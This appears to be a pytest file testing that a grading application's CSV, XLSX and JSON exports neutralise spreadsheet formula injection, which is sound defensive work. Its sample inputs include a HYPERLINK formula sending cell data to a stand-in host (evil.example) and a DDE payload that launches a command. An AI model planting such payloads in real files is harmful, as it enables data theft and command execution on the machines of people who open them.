"""No cell of a file that leaves the program is run by a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from grading.services.exports import Kind
from grading.tables import FORMULA_STARTS
from tests.test_permissions import NAMES

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1;"look")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "=1\x00+1",
)  # fmt: skip


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("kind", [kind for kind in Kind if kind != Kind.XLSX])
@pytest.mark.parametrize("of", ["export-file", "export-class-file"])
def test_no_cell_of_a_table_begins_like_a_formula(
    client, alice, url_of, write_everywhere, kind, of
):
    client.force_login(alice)
    url = url_of(f"grading:{of}").replace("/long/", f"/{kind}/")
    for formula in FORMULAS:
        write_everywhere(formula)
        content = client.get(url).getvalue().decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
        assert any(formula.strip()[-2:] in cell for cell in cells), "the formula is in the file"
        for cell in cells:
            harmless = is_number(cell) or not cell.lstrip(" ").startswith(FORMULA_STARTS)
            assert harmless, (formula, cell)


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(client, alice, url_of, write_everywhere):
    client.force_login(alice)
    url = url_of("grading:export-file").replace("/long/", "/xlsx/")
    for formula in FORMULAS:
        write_everywhere(formula)
        content = client.get(url).getvalue()
        for sheet in load_workbook(io.BytesIO(content)):
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f"
                    assert cell.hyperlink is None
        names = zipfile.ZipFile(io.BytesIO(content)).namelist()
        assert not [n for n in names if "external" in n.lower() or "vba" in n.lower()]


def test_the_record_of_a_student_stays_valid(client, alice, url_of, write_everywhere):
    client.force_login(alice)
    for formula in (*FORMULAS, '"},{"a":"'):
        write_everywhere(formula)
        said = json.loads(client.get(url_of("grading:export-student")).content)
        assert said["student"]["name"] == formula


def test_every_export_there_is_is_tried_here():
    """A new one needs its own look at formulas: add it here and to the tests above."""
    exports = {n for n in NAMES if "export" in n and n.endswith(("-file", "-student"))}
    assert exports == {
        "grading:export-file", "grading:export-class-file", "grading:export-student"
    }  # fmt: skip
